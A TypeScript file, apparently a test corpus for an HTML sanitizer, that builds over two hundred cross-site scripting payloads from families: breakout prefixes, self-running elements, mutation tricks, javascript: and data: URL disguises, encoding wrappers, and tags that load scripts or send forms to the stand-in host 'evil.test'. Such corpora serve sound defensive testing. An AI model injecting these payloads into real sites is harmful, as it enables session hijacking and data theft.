// Two hundred and more ways to smuggle script, style or a request into a page, put together from families; `RUN` is what would run.
const RUN = "window.pwned=1,alert(1)";
const OUT = "evil.test";

/** Ends whatever the text may stand in. */
const ENDS = ["", '">', "'>", "</title>", "</textarea></style>", "-->", "`>", "]]>"];

/** Elements that run something by themselves. */
const RUNNING = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<style onload=${RUN}></style>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  `<ScRiPt/x>${RUN}</sCrIpT>`,
];

/** What parsers take for one thing and browsers, on second reading, for another; foreign content, templates, raw text. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<svg><template><img src=x onerror=${RUN}></template></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<svg><animate xlink:href="#x" attributeName="href" values="javascript:${RUN}"/><a id="x"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<<script>${RUN}//<</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
];

/** Text that asks for something outside, or takes the page over without script. */
const ASKING = [
  `<img src="http://${OUT}/x">`,
  `<link rel=stylesheet href="//${OUT}/x.css">`,
  `<style>@import "//${OUT}/x.css";body{background:url(//${OUT}/y)}</style>`,
  `" style="background:url(//${OUT}/z)`,
  `<base href="//${OUT}/">`,
  `<meta http-equiv=refresh content="0;url=//${OUT}/">`,
  `<form action="//${OUT}/"><input name=a><button>ok</button></form>`,
  `<iframe src="//${OUT}/"></iframe>`,
  `<link rel=preconnect href="//${OUT}"><link rel=prefetch href="//${OUT}/p">`,
  `<video poster="//${OUT}/p" src="//${OUT}/v"></video>`,
  `<object data="//${OUT}/o"></object>`,
  `<script src="//${OUT}/x.js"></script>`,
  `<svg><image href="//${OUT}/i"/></svg>`,
  `<a ping="//${OUT}/" href="#">x</a>`,
];

/** Addresses that run, in the disguises browsers see through. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:msgbox(1)`,
  `blob:https://${OUT}/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `https://x" onmouseover="${RUN}`,
  `https://x' autofocus onfocus='${RUN}`,
  `https://x/"><img src=x onerror=${RUN}>`,
  `//${OUT}/`,
  `\\\\${OUT}\\`,
];

/** Characters that change how text is read: other encodings, invisible ones, and those that turn its direction. */
const WRAPPED = [
  (text: string) => `\u202e${text}\u202c`,
  (text: string) => `\u2066${text}\u2069`,
  (text: string) => `\ufeff${text}`,
  (text: string) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text: string) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text: string) => text.replaceAll("<", "&amp;lt;"),
  (text: string) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\u003e"),
  (text: string) => `${text.slice(0, 2)}\u0000${text.slice(2)}`,
  (text: string) => text.replaceAll("<", "<\u200b"),
  (text: string) => `\u2028${text}\u2029`,
  (text: string) => `${text}\u{e0041}\u{e007f}`,
];

export const xss: readonly string[] = [
  ...ENDS.flatMap((end) => RUNNING.map((text) => end + text)),
  ...MUTATING,
  ...ASKING,
  ...ADDRESSES,
  ...WRAPPED.flatMap((wrap) => [RUNNING[0]!, RUNNING[1]!].map(wrap)),
];
